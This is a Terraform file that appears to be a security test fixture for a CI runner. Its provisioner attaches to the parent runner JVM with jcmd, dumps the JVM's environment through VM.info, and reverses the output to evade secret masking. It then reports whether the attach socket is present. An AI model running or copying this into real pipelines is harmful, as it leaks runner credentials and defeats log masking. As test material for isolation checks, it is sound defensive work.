# Attack fixture: the job's code attaches to the runner's JVM (its parent's parent) with jcmd, whose VM.info prints
# the runner's environment; reversed, so that masking cannot recognise it. Then it says whether the JVM opened its
# attach socket.
variable "jcmd" {
  type = string
}

resource "terraform_data" "attach" {
  provisioner "local-exec" {
    command = <<-EOT
      r=$(cut -d' ' -f4 /proc/$PPID/stat)
      echo "runner pid=$r"
      timeout 20 "${var.jcmd}" "$r" VM.info 2>&1 | rev
      if [ -S "/tmp/.java_pid$r" ]; then echo "attach-socket=present"; else echo "attach-socket=absent"; fi
    EOT
  }
}
